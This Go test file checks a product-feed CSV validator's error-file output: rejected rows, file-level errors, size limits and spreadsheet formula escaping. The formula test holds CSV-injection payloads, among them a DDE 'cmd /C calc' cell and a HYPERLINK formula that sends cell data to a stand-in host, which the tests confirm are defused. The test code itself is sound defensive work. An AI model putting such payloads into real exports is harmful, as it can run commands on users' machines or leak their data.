package feed

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"storelink"
)

// The error file has the file's header and separator plus line,
// problem_type and problem_detail, and every dropped row as it stood in
// the file (its own spacing and quoting undone, as CSV reads it), each
// problem of the row once.
func TestErrorFileRows(t *testing.T) {
	in := "store,ean,article_number,quantity,price,colour\r\n" +
		"S1,4006381333931,SKU-1,5,19.99,red\r\n" + // valid
		"S9, 4006381333931 ,\"SKU, two\",x,19.99,blue\r\n" + // unknown store, bad quantity
		"S1,4006381333931,SKU-3,5\r\n" + // too few fields
		"S1,,SKU-4,,19.99,green\r\n" // two missing values
	rep, err := CheckWithErrorFile(strings.NewReader(in), map[string]bool{"S1": true}, nil, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(string(rep.ErrorFile), "\n"), "\n")
	want := []string{
		"store,ean,article_number,quantity,price,colour,line,problem_type,problem_detail",
		`S9,4006381333931 ,"SKU, two",x,19.99,blue,3,Store does not exist; Invalid column value,`,
		`S1,4006381333931,SKU-3,5,,,4,CSV header and row columns do not match,`,
		`S1,,SKU-4,,19.99,green,5,Missing values,`,
	}
	if len(lines) != len(want) {
		t.Fatalf("error file:\n%s\nwant %d lines", rep.ErrorFile, len(want))
	}
	for i := range want {
		if !strings.HasPrefix(lines[i], want[i]) {
			t.Errorf("line %d = %q, want it to start %q", i+1, lines[i], want[i])
		}
	}
	if !strings.Contains(lines[1], `must be a whole number`) || !strings.Contains(lines[1], "not a store registered") {
		t.Errorf("row 3's detail lacks one of its problems: %q", lines[1])
	}
	if rep.RowsRejected != 3 {
		t.Fatalf("rows rejected = %d, want the 3 in the error file", rep.RowsRejected)
	}
}

// A file rejected as a whole has one row at line 0 with its problem: under
// its header when the header could be read, with ';' and the added
// columns alone when not.
func TestErrorFileRejected(t *testing.T) {
	rep, err := CheckWithErrorFile(strings.NewReader("store;ean;quantity\nS1;4006381333931;5\n"), map[string]bool{"S1": true}, nil, 1<<20)
	if err != nil || !rep.FileError {
		t.Fatalf("check: %+v, %v; want a file error", rep, err)
	}
	r := csv.NewReader(bytes.NewReader(rep.ErrorFile))
	r.Comma = ';'
	recs, err := r.ReadAll()
	want := [][]string{{"store", "ean", "quantity", "line", "problem_type", "problem_detail"}, {"", "", "", "0", rep.Errors[0].Type, rep.Errors[0].Message}}
	if err != nil || fmt.Sprint(recs) != fmt.Sprint(want) {
		t.Fatalf("error file = %q (%v), want %q", rep.ErrorFile, err, want)
	}

	rep, err = CheckWithErrorFile(strings.NewReader("\xff\xfe\x00"), nil, nil, 1<<20)
	if err != nil || !rep.FileError {
		t.Fatalf("check: %+v, %v; want a file error", rep, err)
	}
	if !strings.HasPrefix(string(rep.ErrorFile), "line;problem_type;problem_detail\n0;"+storelink.ProblemEncoding+";") {
		t.Fatalf("error file of an unreadable file = %q", rep.ErrorFile)
	}
	if got := string(ProblemFile([]storelink.Problem{{Type: "Processing failed", Message: "It failed."}})); got != "line;problem_type;problem_detail\n0;Processing failed;It failed.\n" {
		t.Fatalf("ProblemFile = %q", got)
	}
}

// A clean file's error file is its header and the added columns alone.
func TestErrorFileClean(t *testing.T) {
	rep, err := CheckWithErrorFile(strings.NewReader("\ufeffstore;ean;article_number;quantity;price\nS1;4006381333931;SKU;5;1.00\n"), map[string]bool{"S1": true}, nil, 1<<20)
	if err != nil || rep.FileError {
		t.Fatalf("check: %+v, %v", rep, err)
	}
	if got := string(rep.ErrorFile); got != "store;ean;article_number;quantity;price;line;problem_type;problem_detail\n" {
		t.Fatalf("error file = %q", got)
	}
}

// A file of short bad rows, each with a long message, gets an error file
// cut at its limit, whose last row says how many rows it leaves out; a
// check without an error file makes none.
func TestErrorFileLimit(t *testing.T) {
	in := "store;ean;article_number;quantity;price\n" + strings.Repeat(";;;;\n", 20000)
	rep, err := CheckWithErrorFile(strings.NewReader(in), map[string]bool{"S1": true}, nil, 64<<10)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(rep.ErrorFile); n > 64<<10+1024 {
		t.Fatalf("error file of %d bytes, want about its limit of %d", n, 64<<10)
	}
	recs, err := csv.NewReader(bytes.NewReader(rep.ErrorFile)).ReadAll()
	if err != nil {
		r := csv.NewReader(bytes.NewReader(rep.ErrorFile))
		r.Comma = ';'
		if recs, err = r.ReadAll(); err != nil {
			t.Fatal(err)
		}
	}
	last := recs[len(recs)-1]
	listed := len(recs) - 2 // the header and the last row
	if last[len(last)-2] != "Error file cut short" || !strings.Contains(last[len(last)-1], strconv.Itoa(20000-listed)+" more dropped rows are not listed") {
		t.Fatalf("last row = %q, want it to say that %d rows are left out", last, 20000-listed)
	}
	if rep, err = Check(strings.NewReader(in), nil, nil); err != nil || rep.ErrorFile != nil {
		t.Fatalf("Check made an error file of %d bytes (%v), want none", len(rep.ErrorFile), err)
	}
}

// Cells that a spreadsheet would run as a formula are written after a single
// quote, in the header and in every dropped row, wherever the partner's text
// lands; the line column, and plain signed numbers, stay numbers.
func TestErrorFileFormulas(t *testing.T) {
	in := "store;ean;article_number;quantity;price;=cmd|' /C calc'!A0\n" +
		"\"=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\";4006381333931;+1+1;5;19.99;x\n" +
		"S1;@SUM(A1:A9);-2+3;-5;+1.50;\"\t=1\"\n" +
		"S1;4006381333931;\"\r=2\";x;-;ok\n"
	rep, err := CheckWithErrorFile(strings.NewReader(in), map[string]bool{"S1": true}, nil, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(rep.ErrorFile))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("error file %q: %v", rep.ErrorFile, err)
	}
	want := [][]string{
		{"store", "ean", "article_number", "quantity", "price", "'=cmd|' /C calc'!A0", "line"},
		{`'=HYPERLINK("http://x.test/?"&A1,"Click")`, "4006381333931", "'+1+1", "5", "19.99", "x", "2"},
		{"S1", "'@SUM(A1:A9)", "'-2+3", "-5", "+1.50", "'\t=1", "3"},
		{"S1", "4006381333931", "'\r=2", "x", "'-", "ok", "4"},
	}
	if len(recs) != len(want) {
		t.Fatalf("error file has %d records, want %d:\n%s", len(recs), len(want), rep.ErrorFile)
	}
	for i, w := range want {
		if got := recs[i][:len(w)]; fmt.Sprint(got) != fmt.Sprint(w) {
			t.Errorf("record %d = %q, want %q", i+1, got, w)
		}
		for _, cell := range recs[i] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell[1:]) {
				t.Errorf("record %d: cell %q starts as a formula", i+1, cell)
			}
		}
	}
}
